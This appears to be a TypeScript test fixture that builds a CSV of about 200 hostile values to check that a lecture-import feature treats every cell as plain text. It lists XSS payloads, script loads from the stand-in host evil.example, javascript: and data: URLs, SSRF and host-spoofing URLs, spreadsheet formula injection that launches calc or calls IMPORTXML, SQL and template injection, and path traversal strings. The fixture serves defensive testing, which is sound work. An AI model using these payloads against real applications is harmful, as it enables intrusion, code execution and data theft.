import { Refusal, requiredText } from "../../lib/csv/cells.ts";
import { serialiseRow } from "../../lib/csv/serialise-csv.ts";
import { COLUMN_NAMES, FIELDS, type Field } from "../../lib/lecture-import/columns.ts";

// A value that runs sets `window.ran`; a value that loads requests an unknown host of `Outside`. Both fail a test.

const markup = [
  "<script>window.ran=1</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<script src=https://evil.example/x.js async>",
  "<scr<script>ipt>window.ran=1</scr</script>ipt>",
  "<script\u000Dtype=module>window.ran=1</script>",
  "</script><script>window.ran=1</script>",
  "</script >--><img src=x onerror=window.ran=1>",
  "<!--</script><script>window.ran=1//-->",
  "<!-- <img src=x onerror=window.ran=1>",
  "--><svg onload=window.ran=1>",
  "<![CDATA[<script>window.ran=1</script>]]>",
  "]]><script>window.ran=1</script>",
  "<img src=x onerror=window.ran=1>",
  "<img/src=x/onerror=window.ran=1>",
  '<img src="https://evil.example/p.png">',
  "<img srcset='https://evil.example/p.png 1x'>",
  "<image xlink:href=x onerror=window.ran=1>",
  "<picture><source srcset=x onerror=window.ran=1><img></picture>",
  "<svg/onload=window.ran=1>",
  "<svg><script>window.ran=1</script></svg>",
  "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=window.ran=1>#x'/></svg>",
  "<svg><foreignObject><iframe src=https://evil.example></iframe></foreignObject></svg>",
  "<math><mtext></p><img src=x onerror=window.ran=1></mtext></math>",
  "<iframe src=https://evil.example></iframe>",
  "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
  "<iframe src=javascript:window.ran=1>",
  "<object data=https://evil.example/x.swf></object>",
  "<embed src=https://evil.example/x.swf>",
  "<video><source onerror=window.ran=1></video>",
  "<audio src=x onerror=window.ran=1>",
  "<details open ontoggle=window.ran=1>",
  "<body onload=window.ran=1>",
  "<input autofocus onfocus=window.ran=1>",
  "<select autofocus onfocus=window.ran=1></select>",
  "<marquee onstart=window.ran=1>x</marquee>",
  "<a href=javascript:window.ran=1>click</a>",
  "<a href='https://evil.example' target=_blank>click</a>",
  "<form action=https://evil.example><button>send</button></form>",
  "<button formaction=javascript:window.ran=1>x",
  "<base href=https://evil.example/>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<link rel=import href=https://evil.example/x.html>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  '<meta http-equiv=Content-Security-Policy content="script-src *">',
  "<style>@import 'https://evil.example/x.css';</style>",
  "<style><img title='</style><img src=x onerror=window.ran=1>'>",
  "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
  "<template><script>window.ran=1</script></template>",
  "<textarea></textarea><img src=x onerror=window.ran=1>",
  "</title><script>window.ran=1</script>",
  "</textarea></style></title></template><svg onload=window.ran=1>",
  "<xss style=animation-name:x onanimationstart=window.ran=1>",
  "<plaintext>",
  "<b>bold</b> & <i>not so</i>",
  "<br><hr><p>paragraph",
];

const attributes = [
  '" onmouseover="window.ran=1',
  "' onfocus='window.ran=1' autofocus='",
  '"><img src=x onerror="window.ran=1">',
  "'><svg onload=window.ran=1>",
  '" style="background:url(https://evil.example/p.png)',
  "x onerror=window.ran=1 y=",
  "` onclick=`window.ran=1",
  '"/><script>window.ran=1</script><a x="',
  '" autofocus onfocus=window.ran=1 x="',
  '" data-thumbnail="zzzzzzzzzzz',
];

const scripts = [
  "javascript:window.ran=1",
  "JaVaScRiPt:window.ran=1",
  "java\tscript:window.ran=1",
  "java\nscript:window.ran=1",
  "java\r\nscript:window.ran=1",
  "\u00ADjavascript:window.ran=1",
  "\u200Djavascript:window.ran=1",
  "javascript\u200B:window.ran=1",
  "javascript://%0Awindow.ran=1",
  "javascript://www.youtube.com/embed/zzzzzzzzzzz%0Awindow.ran=1",
  "javascript:/*--></title></style></script>*/window.ran=1",
  "javascript&colon;window.ran=1",
  "&#106;avascript:window.ran=1",
  "&#x6A;&#x61;vascript:window.ran=1",
  "\\u006aavascript:window.ran=1",
  "%6Aavascript:window.ran=1",
  "vbscript:msgbox(1)",
  "livescript:window.ran=1",
  "view-source:javascript:window.ran=1",
  "blob:https://evil.example/x",
  "feed:javascript:window.ran=1",
];

const data = [
  "data:text/html,<script>parent.ran=1</script>",
  "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuPTE8L3NjcmlwdD4=",
  "DATA:text/html;charset=utf-8,%3Cscript%3Eparent.ran=1%3C/script%3E",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.ran=1'/>",
  "data:application/javascript,window.ran=1",
  "data:,window.ran=1",
  "filesystem:https://evil.example/x",
  "file:///etc/passwd",
  "about:blank#<script>window.ran=1</script>",
];

const hosts = [
  "https://evil.example/x.jpg",
  "//evil.example/x.jpg",
  "\\\\evil.example\\x.jpg",
  "/\\evil.example",
  "https:evil.example",
  "http://evil.example:80\\@i.ytimg.com/vi/zzzzzzzzzzz/hqdefault.jpg",
  'https://evil.example/x.jpg"onerror="window.ran=1',
  "https://i.ytimg.com.evil.example/vi/zzzzzzzzzzz/hqdefault.jpg",
  "https://i.ytimg.com@evil.example/vi/zzzzzzzzzzz/hqdefault.jpg",
  "https://evil.example/?i.ytimg.com/vi/zzzzzzzzzzz/hqdefault.jpg",
  "https://i.ytimg.com/vi/../../evil/hqdefault.jpg",
  "https://i.ytimg.com/vi/zzzzzzzzzzz/../../../evil.example",
  'https://i.ytimg.com/vi/zzzzzzzzzz"/hqdefault.jpg',
  "https://169.254.169.254/latest/meta-data",
  "http://localhost:3000/api/auth/sign-out",
  "https://[::1]/x.jpg",
  "https://www.youtube.com.evil.example/embed/zzzzzzzzzzz",
  "https://www.youtube.com@evil.example/embed/zzzzzzzzzzz",
  "https://youtube.com:x@evil.example/watch?v=zzzzzzzzzzz",
  "https://evil.example/https://www.youtube.com/embed/zzzzzzzzzzz",
  "https://evil.example#https://www.youtube.com/embed/zzzzzzzzzzz",
  "https://evil.example\\.youtube.com/embed/zzzzzzzzzzz",
  "https://www.youtube.com%2eevil.example/embed/zzzzzzzzzzz",
  "https://www.youtube\u3002com.evil.example/embed/zzzzzzzzzzz",
  "https://www.y\u043Eutube.com/embed/zzzzzzzzzzz",
  "https://xn--yutube-wqf.com/embed/zzzzzzzzzzz",
  "https://www.\uFF59outube.com/embed/zzzzzzzzzzz",
  "https://www.you\u00ADtube.com/embed/zzzzzzzzzzz",
  "https://notyoutube.com/embed/zzzzzzzzzzz",
  "https://youtube.evil.example/embed/zzzzzzzzzzz",
  'https://www.youtube.com/embed/zzzzzzzzzzz"onload="window.ran=1',
  "https://www.youtube.com/embed/zzzzzzzzzz<",
  "https://www.youtube.com/embed/..%2F..%2Fevil",
  "https://www.youtube.com/watch?v=javascript:x",
  "https://www.youtube.com/redirect?q=https://evil.example",
  "https://www.youtube.com/embed/videoseries?list=https://evil.example",
  "https://www.youtube.com/embed/zzzzzzzzzzz?origin=https://evil.example",
  "ftp://www.youtube.com/embed/zzzzzzzzzzz",
];

const signs = [
  "a\u0000b",
  "\u0001\u0002\u0003",
  "a\u0008b\u001B[31mred\u001B[0m",
  "\u001Fseparated\u001F",
  "\u007Fdelete\u0085next",
  "\u202Egpj.exe",
  "\u2066isolated\u2069 \u202Dforced\u202C",
  "\u200Fright\u200Eleft \u061Cmark",
  "zero\u200Bwidth\u200C\u200D\u2060\uFEFF",
  "line\u2028separator';window.ran=1//",
  'paragraph\u2029separator";window.ran=1//',
  "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034Fa\u0334\u0319\u0324\u031El\u0341",
  "\uFF1Cscript\uFF1Ewindow.ran=1\uFF1C/script\uFF1E",
  "\u{E0041}\u{E0042} tags, \uFFFD, \uFFFE, \u{1FFFF}",
  "a\r\nSet-Cookie: evil=1\r\n\r\n<script>window.ran=1</script>",
];

const formulas = [
  '=HYPERLINK("https://evil.example","click")',
  "=1+1+cmd|' /C calc'!A0",
  "+1-1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  ' =IMPORTXML("https://evil.example","//a")',
  "\uFF1D1+1",
  "x;=1+1",
  "x\n=1+1",
];

const languages = [
  "'; drop table lectures; --",
  "' or '1'='1",
  "\\'; select pg_sleep(10); --",
  '"; delete from user_roles; --',
  "$$; drop table lectures; $$",
  "%' or 1=1 --_%",
  "%s %n %x {0} {} %00",
  "{{constructor.constructor('window.ran=1')()}}",
  "$" + "{window.ran=1} #{1} <%= 1 %>",
  "{% include 'evil' %}",
  '","@context":"https://evil.example","x":"',
  '"}</script><script>window.ran=1</script>{"',
  '\\"};window.ran=1;//',
  "\\u003c/script\\u003e\\u003cscript\\u003ewindow.ran=1",
  "</ScRiPt/x><svg/onload=window.ran=1>",
  'self.__next_f.push([1,"<script>window.ran=1</script>"])',
  "$undefined $Sreact.element $L1 $@1 $F1 $T1",
  '{"$$typeof":"Symbol(react.element)","type":"script"}',
  "__proto__",
  "constructor",
  "expression(window.ran=1)",
  "url(https://evil.example/p.png)",
  "};*{background:url(https://evil.example/p.png)}",
  "&lt;script&gt;window.ran=1&lt;/script&gt;",
  "&amp;lt;img src=x onerror=window.ran=1&amp;gt;",
  "&quot;&gt;&lt;svg onload=window.ran=1&gt;",
  "%3Cscript%3Ewindow.ran=1%3C/script%3E",
  "%253Cscript%253E",
];

const paths = [
  ".",
  "..",
  "../../admin-console",
  "%2e%2e%2fadmin-console",
  "/admin-console",
  "?next=//evil.example",
  "#<img src=x onerror=window.ran=1>",
  "a/b\\c",
  "%00",
  "%E0%A4%A",
];

const lengths = ["<script>window.ran=1</script>".repeat(20), "<b>".repeat(1_000), "x".repeat(20_000)];

/** 200 texts that would do harm if a cell were treated as anything but text. */
export const hostileValues: readonly string[] = [
  ...[markup, attributes, scripts, data, hosts, signs, formulas, languages, paths, lengths].flat(),
];

/** A harmless value in all rows whose `field` has a hostile value, so that one search finds them all. */
export const markOf = (field: Field) => `Hostile ${field.replaceAll("_", " ")}`;

/** The name of the course for a value: the value itself if it is a valid course name. */
function hostileCourse(value: string, index: number): string {
  const name = requiredText(250)(value);
  return name instanceof Refusal ? `Hostile ${index}` : name;
}

/**
 * A CSV file with every value in every column: one row per value and column, the rows of a value in one course. The other
 * cells are valid, and chosen so that the course shows the hostile value.
 */
export function hostileFile(): Buffer {
  const lines = hostileValues.flatMap((value, index) =>
    FIELDS.map((field, position) => {
      const row: Partial<Record<Field, string>> = {
        course_name: hostileCourse(value, index),
        // The row with the value as lecture name comes first, because the course page plays that lecture.
        lecture_number: String(field === "lecture_name" ? 0 : position + 1),
        lecture_name: markOf(field),
        youtube: "https://youtu.be/zzzzzzzzzzz",
        view_rate: "100000000000",
        ...(field === "lecture_name" && { keywords: markOf(field) }),
        // The course takes its subject from the first row with a subject, which is the row with the hostile subject.
        ...(position > FIELDS.indexOf("subject") && field !== "lecture_name" && { subject: "Hostile" }),
        [field]: value,
      };
      return serialiseRow(FIELDS.map((name) => row[name] ?? ""));
    }),
  );
  return Buffer.from([serialiseRow(FIELDS.map((field) => COLUMN_NAMES[field])), ...lines].join(""));
}
